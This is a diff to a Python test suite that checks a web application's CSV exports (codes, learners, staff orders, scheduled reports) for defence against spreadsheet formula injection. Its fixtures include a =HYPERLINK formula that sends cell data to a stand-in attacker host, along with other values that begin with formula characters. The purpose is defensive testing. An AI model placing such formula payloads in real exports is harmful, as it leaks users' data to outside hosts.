@@ -31,7 +31,13 @@ CONTRACT_NAME = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
 ASSIGNED = ["=1+1@acme.example", "+assign@acme.example", "-assign@acme.example"]
 BULK = ["-bulk@acme.example", "+bulk@acme.example", "=bulk@acme.example"]
 STORED_ASSIGNED = ["@evil", "\t=1@acme.example", "\r=1@acme.example"]  # however they got there
-EXPORTS = {"staff.codes_export", "org_admin.codes_export", "org_admin.learners_export"}
+EXPORTS = {
+    "staff.codes_export",
+    "org_admin.codes_export",
+    "org_admin.learners_export",
+    "staff.orders_csv",
+    "org_admin.report_download",  # a scheduled report's link: the learners CSV
+}
 
 
 def rows_of(response: Any) -> list[list[str]]:
@@ -137,12 +143,22 @@ def test_every_formula_in_every_export_is_neutralized(
     admin_codes = rows_of(client.get(f"/org/ACME/contracts/{contract.id}/codes.csv"))
     learners = rows_of(client.get(f"/org/ACME/learners.csv?contract={contract.id}&status=all"))
     everything = rows_of(client.get("/org/ACME/learners.csv?status=all"))
+    report = rows_of(client.get(f"/org/ACME/reports/download/{world.report_token}"))
+    # The staff orders export: a learner's name and the contract's name are user-controlled.
+    world.lee.name = NAMES[0]
+    db.session.commit()
+    sign_in(client, world.staff)
+    orders = rows_of(client.get("/staff/orders.csv"))
+    assert "'" + NAMES[0] in {cell for row in orders for cell in row}
+    sign_in(client, world.grace)
 
     for name, rows in {
         "staff codes": staff_codes,
         "admin codes": admin_codes,
         "learners": learners,
         "all learners": everything,
+        "scheduled report": report,
+        "staff orders": orders,
     }.items():
         assert dangerous_cells(rows) == [], name
 
